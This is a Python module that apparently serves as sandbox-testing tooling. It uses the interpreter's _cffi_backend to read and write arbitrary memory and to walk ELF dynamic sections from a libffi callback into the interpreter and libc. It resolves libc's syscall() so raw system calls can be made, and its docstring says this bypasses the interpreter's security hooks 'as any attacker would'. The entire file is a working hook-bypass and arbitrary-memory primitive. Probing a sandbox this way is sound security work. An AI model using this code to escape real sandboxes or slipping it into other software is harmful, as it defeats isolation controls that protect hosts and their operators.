"""Native system calls from inside the guest, with nothing but what the interpreter brings.

_cffi_backend reads and calls any address. A callback's closure holds a pointer into the interpreter's library; that
library's import of malloc points into libc; libc's own symbol table says where syscall() is. The hooks are thereby
passed by, as any attacker would: what is left is the kernel's filter.
"""
import struct
import _cffi_backend as b

LONG = b.new_primitive_type("long")
CHAR = b.new_primitive_type("char")
POINTER = b.new_pointer_type(CHAR)
SYSCALL = b.new_function_type((LONG,) * 7, LONG, False)
PAGE = 4096
PT_DYNAMIC, DT_STRTAB, DT_SYMTAB, DT_JMPREL, DT_PLTRELSZ, DT_RELASZ, DT_RELA = 2, 5, 6, 23, 2, 8, 7


def peek(address, size):
    return bytes(b.buffer(b.cast(POINTER, address), size))


def poke(address, data):
    b.buffer(b.cast(POINTER, address), len(data))[:] = data


def word(address):
    return struct.unpack("<Q", peek(address, 8))[0]


def text(address):
    data = b""
    while not data.endswith(b"\0"):
        data += peek(address + len(data), 1)
    return data[:-1].decode("latin-1")


def image_of(address):
    """Base of the ELF file that `address` lies in."""
    address &= -PAGE
    while peek(address, 4) != b"\x7fELF":
        address -= PAGE
    return address


def dynamic_of(base):
    """Dynamic section of a loaded file: tag -> value, addresses made absolute."""
    offset, count = word(base + 32), struct.unpack("<H", peek(base + 56, 2))[0]
    for i in range(count):
        header = peek(base + offset + 56 * i, 56)
        if struct.unpack_from("<I", header)[0] == PT_DYNAMIC:
            at = base + struct.unpack_from("<Q", header, 16)[0]
    found = {}
    while word(at):
        found[word(at)] = word(at + 8)
        at += 16
    for tag in (DT_STRTAB, DT_SYMTAB, DT_JMPREL, DT_RELA):
        if tag in found and found[tag] < base:
            found[tag] += base
    return found


def imports_of(base):
    """Name of each imported function -> address of its relocation slot."""
    dynamic, found = dynamic_of(base), {}
    for at in range(dynamic[DT_JMPREL], dynamic[DT_JMPREL] + dynamic[DT_PLTRELSZ], 24):
        offset, info = word(at), word(at + 8)
        name = struct.unpack("<I", peek(dynamic[DT_SYMTAB] + 24 * (info >> 32), 4))[0]
        found[text(dynamic[DT_STRTAB] + name)] = base + offset
    return found


def exports_of(base, wanted):
    """Address of the function `wanted`, from the symbol table, which ends where the strings begin."""
    dynamic = dynamic_of(base)
    for at in range(dynamic[DT_SYMTAB], dynamic[DT_STRTAB], 24):
        name, value = struct.unpack("<I", peek(at, 4))[0], word(at + 8)
        if value and text(dynamic[DT_STRTAB] + name) == wanted:
            return base + value
    raise LookupError(wanted)


callback = b.callback(SYSCALL, lambda *args: 0)
CLOSURE_FUNCTION = 40  # offset in libffi's closure: behind the trampoline and the description of the call
INTERPRETER = image_of(word(int(b.cast(LONG, callback)) + CLOSURE_FUNCTION))
IMPORTS = imports_of(INTERPRETER)
LIBC = image_of(word(IMPORTS["malloc"]))
syscall = b.cast(SYSCALL, exports_of(LIBC, "syscall"))
kept = []


def memory(data=b"", size=4096):
    """Address of `size` bytes that begin with `data`."""
    kept.append(b.newp(b.new_array_type(POINTER, size), data))
    return int(b.cast(LONG, kept[-1]))


def call(number, *args):
    """What the kernel answered: a result, or a negative error number."""
    result = syscall(number, *(args + (0,) * (6 - len(args))))
    return result if result >= 0 else -b.get_errno()
